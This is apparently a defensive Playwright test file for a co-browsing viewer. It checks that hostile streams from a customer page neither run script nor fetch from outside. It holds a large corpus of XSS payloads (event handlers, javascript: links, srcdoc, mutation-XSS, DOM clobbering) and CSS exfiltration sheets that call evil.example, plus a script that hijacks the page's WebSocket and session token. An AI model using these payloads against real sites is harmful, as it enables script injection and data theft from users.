"""A hostile customer: whatever its stream says, nothing runs and nothing is fetched in the agent's
browser.

The corpus is ours, written from public descriptions of each trick. It goes two ways: through the server,
sent by a customer's page that speaks the wire itself, and past the server straight into the viewer."""

from __future__ import annotations

import base64
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import ConsoleMessage, Dialog, Frame, Page, Request

from cobrowse.frames import encode
from cobrowse.ops import (
    CODES,
    ELEMENT,
    END,
    FLAG_FRAME,
    FLAG_MATHML,
    FLAG_QUIRKS,
    FLAG_SHADOW,
    FLAG_SVG,
    SIDE,
    TEXT_NODE,
    WIRE_VERSION,
)
from tests.browser.conftest import Browsers
from tests.browser.test_cobrowse import shared
from tests.server_process import Server

EVIL = E = "http://evil.example"
RUN = "top.__ran=1;parent.__ran=1;window.__ran=1;alert(1)"
MARKUP = f"<img src={EVIL}/m onerror={RUN}><script>{RUN}</script>"
XLINK = "xlink:href"


def element(tag: str, attributes: dict[str, str], *inside: Any, flags: int = 0) -> list[Any]:
    pairs = [part for pair in attributes.items() for part in pair]
    return [ELEMENT | flags << 2, tag, *pairs, 0, *(x for part in inside for x in part), END]


def text(words: str) -> list[Any]:
    return [TEXT_NODE, words]


BODIES: dict[str, list[Any]] = {
    "script": element("script", {"src": f"{EVIL}/s.js"}, text(RUN)),
    "script in svg": element(
        "svg", {}, element("script", {XLINK: f"{EVIL}/s"}, text(RUN), flags=FLAG_SVG), flags=FLAG_SVG
    ),
    "handlers": element("img", {"src": f"{EVIL}/i", "onerror": RUN, "ONLOAD": RUN, "srcset": f"{EVIL}/i 2x"}),
    "focus": element("input", {"autofocus": "", "onfocus": RUN, "type": "image", "src": f"{EVIL}/i"}),
    "toggle": element("details", {"open": "", "ontoggle": RUN}, text("x")),
    "marquee": element("marquee", {"onstart": RUN, "background": f"{EVIL}/b"}, text("x")),
    "javascript link": element("a", {"href": "javascript:" + RUN, "ping": f"{EVIL}/p"}, text("x")),
    "data link": element(
        "a", {"href": f"data:text/html,<script>{RUN}</script>", "target": "_top"}, text("x")
    ),
    "srcdoc": element("iframe", {"srcdoc": MARKUP}),
    "frame address": element("iframe", {"src": f"{EVIL}/f", "sandbox": "allow-scripts"}),
    "frame inside": element(
        "iframe",
        {"src": "javascript:" + RUN},
        element("html", {}, element("script", {}, text(RUN))),
        [END],
        flags=FLAG_FRAME,
    ),
    "frame inside with all": element(
        "iframe",
        {"srcdoc": MARKUP, "name": "top", "csp": "", "onload": RUN},
        element(
            "html",
            {},
            element("base", {"href": EVIL}),
            element("style", {}, text(f"@import '{EVIL}/fc'")),
            element(
                "body", {"onload": RUN, "background": f"{EVIL}/fb", "style": f"background: url({EVIL}/fs)"}
            ),
            element("img", {"src": f"{EVIL}/fi", "onerror": RUN}),
            element("iframe", {"src": f"{EVIL}/ff", "sandbox": "allow-scripts"}),
        ),
        [END],
        flags=FLAG_FRAME | FLAG_QUIRKS,
    ),
    "frame in a frame": element(
        "iframe",
        {},
        element("iframe", {}, element("script", {}, text(RUN)), [END], flags=FLAG_FRAME),
        [END],
        flags=FLAG_FRAME,
    ),
    "frame on another element": element("p", {}, element("script", {}, text(RUN)), [END], flags=FLAG_FRAME),
    "object": element(
        "object", {"data": f"{EVIL}/o", "type": "text/html"}, element("param", {"name": "src"})
    ),
    "embed": element("embed", {"src": "javascript:" + RUN}),
    "base": element("base", {"href": f"{EVIL}/", "target": "_top"}) + element("img", {"src": "x.png"}),
    "refresh": element("meta", {"http-equiv": "refresh", "content": f"0;url={EVIL}/r"}),
    "policy": element("meta", {"http-equiv": "Content-Security-Policy", "content": "default-src *"}),
    "style link": element("link", {"rel": "stylesheet", "href": f"{EVIL}/c.css"}),
    "preload": element(
        "link", {"rel": "preload", "as": "image", "href": f"{EVIL}/p", "imagesrcset": f"{EVIL}/q 1x"}
    ),
    "prefetch": element("link", {"rel": "dns-prefetch preconnect prefetch", "href": EVIL}),
    "style text": element("style", {}, text(f"@import '{EVIL}/c.css'; body {{ background: url({EVIL}/b) }}")),
    "style attribute": element(
        "p", {"style": f"background: url({EVIL}/b); list-style: url('//evil.example/l')"}
    ),
    "escaped style": element("p", {"style": f"background: \\75 rl({EVIL}/b); background: u\\rl({EVIL}/c)"}),
    "image-set": element("p", {"style": f"background: image-set('{EVIL}/b' 1x); mask: src('{EVIL}/m')"}),
    "form": element("form", {"action": f"{EVIL}/f"}, element("button", {"formaction": "javascript:" + RUN})),
    "video": element("video", {"poster": f"{EVIL}/p", "src": f"{EVIL}/v", "autoplay": ""}),
    "source": element("picture", {}, element("source", {"srcset": f"{EVIL}/s"}), element("img", {})),
    "svg image": element(
        "svg", {}, element("image", {"href": f"{EVIL}/i", XLINK: f"{EVIL}/j"}, flags=FLAG_SVG), flags=FLAG_SVG
    ),
    "svg use": element(
        "svg", {}, element("use", {"href": f"{EVIL}/u.svg#x"}, flags=FLAG_SVG), flags=FLAG_SVG
    ),
    "svg animate": element(
        "svg",
        {"onload": RUN},
        element(
            "a",
            {},
            element("animate", {"attributeName": "href", "to": "javascript:" + RUN}, flags=FLAG_SVG),
            flags=FLAG_SVG,
        ),
        element("set", {"attributeName": "onmouseover", "to": RUN}, flags=FLAG_SVG),
        flags=FLAG_SVG,
    ),
    "svg filter": element(
        "svg", {}, element("feImage", {"href": f"{EVIL}/f"}, flags=FLAG_SVG), flags=FLAG_SVG
    ),
    "foreign object": element(
        "svg",
        {},
        element("foreignObject", {}, element("img", {"src": f"{EVIL}/i", "onerror": RUN}), flags=FLAG_SVG),
        flags=FLAG_SVG,
    ),
    "math": element(
        "math",
        {},
        element("mi", {"href": "javascript:" + RUN, XLINK: f"{EVIL}/m"}, flags=FLAG_MATHML),
        flags=FLAG_MATHML,
    ),
    "clobbering": element(
        "form", {"id": "document", "name": "getElementById"}, element("img", {"name": "body", "id": "cookie"})
    ),
    "clobbered element": element(
        "form", {}, element("input", {"name": "attributes"}), element("input", {"name": "parentNode"})
    ),
    "markup in noscript": element("noscript", {}, text(MARKUP)),
    "markup in textarea": element("textarea", {}, text("</textarea>" + MARKUP)),
    "markup in title": element("title", {}, text("</title>" + MARKUP)),
    "markup in xmp": element("xmp", {}, text("</xmp>" + MARKUP)),
    "markup in style": element("style", {}, text("</style>" + MARKUP)),
    "markup in math style": element(
        "math",
        {},
        element("mtext", {}, element("style", {}, text("<!--</style>" + MARKUP)), flags=FLAG_MATHML),
        flags=FLAG_MATHML,
    ),
    "mutated by tables": element(
        "math",
        {},
        element(
            "mtext",
            {},
            element(
                "table",
                {},
                element("mglyph", {}, element("style", {}, text("<!--</style>" + MARKUP)), flags=FLAG_MATHML),
            ),
            flags=FLAG_MATHML,
        ),
        flags=FLAG_MATHML,
    ),
    "mutated by svg": element(
        "svg",
        {},
        element("p", {}, element("style", {}, text("</p><style><g title='</style>" + MARKUP + "'>"))),
        flags=FLAG_SVG,
    ),
    "mutated by attributes": element("p", {"title": "</p><noscript>" + MARKUP, "class": "`" + MARKUP}),
    "mutated by annotation": element(
        "math",
        {},
        element(
            "annotation-xml",
            {"encoding": "text/html"},
            element("svg", {}, element("style", {}, text(MARKUP)), flags=FLAG_SVG),
            flags=FLAG_MATHML,
        ),
        flags=FLAG_MATHML,
    ),
    "mutated by forms": element(
        "form",
        {},
        element("table", {}, element("form", {"id": "outer"}, element("input", {"id": "outerHTML"}))),
    ),
    "mutated by select": element("select", {}, element("template", {}, text(MARKUP)), text(MARKUP)),
    "mutated by unknown": element("plaintext", {}, element("listing", {}, text("</listing>" + MARKUP))),
    "svg link": element(
        "svg",
        {},
        element("a", {XLINK: "javascript:" + RUN, "href": "data:image/svg+xml,x"}, flags=FLAG_SVG),
        element("use", {"href": f"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x"}, flags=FLAG_SVG),
        flags=FLAG_SVG,
    ),
    "svg paint": element(
        "svg",
        {},
        element(
            "rect",
            {"fill": f"url({EVIL}/f#x)", "filter": f"url('{EVIL}/g#x')", "mask": "\\75rl(x)"},
            flags=FLAG_SVG,
        ),
        flags=FLAG_SVG,
    ),
    "sound": element("audio", {"src": f"{EVIL}/a", "controls": "", "autoplay": "", "preload": "auto"}),
    "sources": element(
        "video",
        {"autoplay": ""},
        element("source", {"src": f"{EVIL}/s", "onerror": RUN}),
        element("track", {"src": f"{EVIL}/t", "default": ""}),
    ),
    "canvas content": element("canvas", {"style": f"content: url({EVIL}/c)", "width": "9", "onclick": RUN}),
    "media attribute": element("style", {"media": f"all; @import '{EVIL}/m'"}),
    "template": element("template", {"shadowrootmode": "open"}, text(MARKUP)),
    "shadow root": element(
        "div", {}, element("style", {}, text(f"@import '{EVIL}/x'")), [END], flags=FLAG_SHADOW
    ),
    "portal": element("portal", {"src": f"{EVIL}/p"}) + element("fencedframe", {"src": f"{EVIL}/f"}),
    "custom": element("x-evil", {"is": "x", "onclick": RUN, "style": f"content: url({EVIL}/c)"}),
    "strange names": element("img/src=x", {}) + element("p", {'a" onload="x': "1", "<b>": "2"}),
    "names of prototypes": element("p", {"__proto__": "x", "constructor": RUN, "innerHTML": MARKUP}),
    "downloads": element("a", {"download": "x.exe", "href": f"{EVIL}/x"}, text("x")),
    "speculation": element(
        "script", {"type": "speculationrules"}, text(f'{{"prefetch":[{{"urls":["{EVIL}"]}}]}}')
    ),
    "import map": element("script", {"type": "importmap"}, text(f'{{"imports":{{"a":"{EVIL}"}}}}')),
    "cursor": element(
        "p", {"style": f"cursor: url({EVIL}/c), auto; --x: url({EVIL}/v); background: var(--x)"}
    ),
}
SHEETS = {
    "import": f"@import url({EVIL}/a.css);",
    "import string": f"@IMPORT '{EVIL}/a.css';",
    "font": f"@font-face {{ font-family: x; src: url({EVIL}/f) }} body {{ font-family: x }}",
    "exfiltration": f"input[value^=a] {{ background: url({EVIL}/a) }} * {{ background: url({EVIL}/b) }}",
    "escapes": f"* {{ background: \\000075rl({EVIL}/e) }} @\\69mport '{EVIL}/f';",
    "image-set": f"* {{ background: -webkit-image-set('{EVIL}/i' 1x); border-image: url({EVIL}/j) }}",
    "comment": f"* {{ background: u/**/rl({EVIL}/c); background: url(/**/{EVIL}/d) }}",
    "namespace": f"@namespace url({EVIL}/n); @document url({EVIL}) {{ p {{ color: red }} }}",
    "variables": f":root {{ --u: url({EVIL}/u) }} * {{ background: var(--u); content: var(--u) }}",
    "behaviour": f"* {{ behavior: url({EVIL}/b); -moz-binding: url({EVIL}/m); width: expression({RUN}) }}",
    "end of style": f"</style>{MARKUP}",
    "letters by fonts": f"@font-face {{ font-family: x; src: url({E}/a); unicode-range: U+61 }}"
    " * { font-family: x }",
    "letters by values": f"html:has(input[value^='a']) {{ --x: url({E}/a) }} body {{ background: var(--x) }}",
    "letters by ligatures": f"@font-face {{ font-family: l; src: url('{E}/l') }} * {{ font: 9px l }}",
    "string that goes on": f'a {{ content: "\\\n"; background: url({E}/g) }} * {{ background: url({E}/h) }}',
    "string that breaks": f'* {{ content: "x\n background: url({E}/k); }} * {{ background: url({E}/n) }}',
    "brace in a comment": f'@media /*{{"*/ screen {{ * {{ background: url({E}/o) }} }} "',
    "escaped name": f"* {{ background: \\75\\72\\6c({E}/q); background: \\55RL('{E}/r') }}",
    "address in an address": f"* {{ background: url(url({E}/s)); background: url('x' url({E}/t)) }}",
    "cross-fade": f"* {{ background: cross-fade(url({E}/u), red); mask: -webkit-cross-fade(url({E}/v)) }}",
    "shapes": f"* {{ shape-outside: url({E}/w); clip-path: url({E}/x#y); offset-path: url({E}/z#y) }}",
    "cursors and lists": f"* {{ cursor: url({E}/1), auto; list-style: url({E}/2); border-image: url({E}) }}",
    "counter style": f"@counter-style x {{ system: cyclic; symbols: url({E}/4) }} * {{ list-style: x }}",
    "registered property": f"@property --p {{ syntax: '<image>'; initial-value: url({E}/5) }}"
    " * { background: var(--p) }",
    "import in a layer": f"@layer a, b; @import '{E}/6' layer(a) supports(display: grid) screen;",
    "scheme": f'* {{ color-scheme: light dark "; background: url({E}/7) }} * {{ background: url({E}/8) }}',
}


def snapshot(seq: int, body: list[Any]) -> bytes:
    mark = element("p", {"id": f"m{seq}"}, text("here"))
    page = element("html", {}, element("head", {}), element("body", {}, body, mark))
    return encode([seq, CODES["SNAP"], 0, "http://bank.example/", "Bank", 800, 600, *page, END])


def with_sheet(seq: int, css: str) -> bytes:
    mark = element("p", {"id": f"m{seq}"}, text("here"))
    page = element("html", {}, element("head", {}, element("style", {})), element("body", {}, mark))
    head = [seq, CODES["SNAP"], 0, "http://bank.example/", "Bank", 800, 600]
    return encode([*head, *page, END, CODES["SHEET"], 1, 4, 0, css])


def corpus() -> dict[str, Any]:
    named: dict[str, Any] = {}
    for name, body in BODIES.items():
        named[name] = lambda seq, body=body: snapshot(seq, body)
    for name, css in SHEETS.items():
        named[f"sheet: {name}"] = lambda seq, css=css: with_sheet(seq, css)
    return named


class Watch:
    """What the agent's browser asks for, and whether anything ran in it."""

    def __init__(self, page: Page, server: Server) -> None:
        self.page = page
        self.own = {"127.0.0.1", "localhost", ""}
        self.foreign: list[str] = []
        self.dialogs: list[str] = []
        page.context.on("request", self._asked)
        page.on("dialog", self._asked_somebody)
        page.on("console", self._told)

    def _asked(self, request: Request) -> None:
        if (urlsplit(request.url).hostname or "") not in self.own:
            self.foreign.append(request.url)

    def _asked_somebody(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _told(self, entry: ConsoleMessage) -> None:
        """Stopped by the sandbox only: it should never have come so far."""
        if "Blocked script execution" in entry.text:
            self.dialogs.append(entry.text)

    def is_clean(self, name: str) -> None:
        ran = [frame.url for frame in self.page.frames if frame.evaluate("'__ran' in window")]
        assert not ran and not self.dialogs, name
        assert not self.foreign, (name, self.foreign)


TAKE_OVER = """(server) => new Promise((resolve) => {
  const { token } = JSON.parse(sessionStorage.getItem("talknow:cobrowse"));
  const Real = WebSocket;
  const socket = new Real(`${server.replace(/^http/, "ws")}/v1/cobrowse`);
  window.__evil = (text) => socket.send(Uint8Array.from(atob(text), (c) => c.charCodeAt(0)));
  // The honest recorder does not come back.
  const elsewhere = (url) => (url.includes("/v1/cobrowse") ? "ws://127.0.0.1:9" : url);
  window.WebSocket = function (url) { return new Real(elsewhere(url)); };
  socket.onopen = () => resolve(token);
})"""
# The server refuses a few whole frames; the others are shown without what is bad in them.
MOSTLY = 0.9
SHOWN = "(id) => document.getElementById(id) !== null"
LOOKS, LOOK_MS = 20, 60


def comes(inner: Frame, identity: str) -> bool:
    """Within a second; looked for after a moment, in which what can run has run."""
    for _ in range(LOOKS):
        inner.page.wait_for_timeout(LOOK_MS)
        if inner.evaluate(SHOWN, identity):
            return True
    return False


@pytest.mark.timeout(180)
def test_a_hostile_stream_runs_nothing_and_fetches_nothing(server: Server, browsers: Browsers) -> None:
    customer, agent = browsers.chat(server)
    browsers.opened.expected += "|Content Security Policy|WebSocket|Blocked|blocked|violates"
    shared(customer, agent)
    watch = Watch(agent.page, server)

    def say(*items: Any) -> None:
        send(encode(list(items)))

    def send(data: bytes) -> None:
        customer.page.evaluate("(text) => window.__evil(text)", base64.b64encode(data).decode())

    say(0, SIDE["HELLO"], customer.page.evaluate(TAKE_OVER, server.url), "evil-document", 1, WIRE_VERSION)
    customer.page.wait_for_timeout(300)
    inner = next(frame for frame in agent.page.frames if frame.url.endswith("/inner.html"))
    shown = 0
    for seq, (name, make) in enumerate(corpus().items(), start=1):
        send(make(seq))
        shown += comes(inner, f"m{seq}")
        watch.is_clean(f"through the server: {name}")
    assert shown >= MOSTLY * len(corpus()), shown

    outer, shown = agent.page.locator("iframe.shared-frame"), 0
    for seq, (name, make) in enumerate(corpus().items(), start=1_000):
        outer.evaluate(
            """(frame, text) => frame.contentWindow.postMessage(
              { kind: "frame", bytes: Uint8Array.from(atob(text), (c) => c.charCodeAt(0)).buffer }, "*")""",
            base64.b64encode(make(seq)).decode(),
        )
        shown += comes(inner, f"m{seq}")
        watch.is_clean(f"past the server: {name}")
    assert shown >= MOSTLY * len(corpus()), shown
